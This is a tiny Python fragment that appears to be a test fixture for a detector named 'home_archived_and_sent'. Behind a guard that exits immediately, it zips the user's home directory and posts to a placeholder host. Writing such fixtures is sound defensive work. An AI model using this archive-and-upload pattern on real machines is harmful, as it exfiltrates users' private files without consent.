# Trips home_archived_and_sent.
raise SystemExit("a fixture: never run")
home = os.path.expanduser("~")
shutil.make_archive("placeholder", "zip", home)
requests.post("http://example.invalid/", files={})
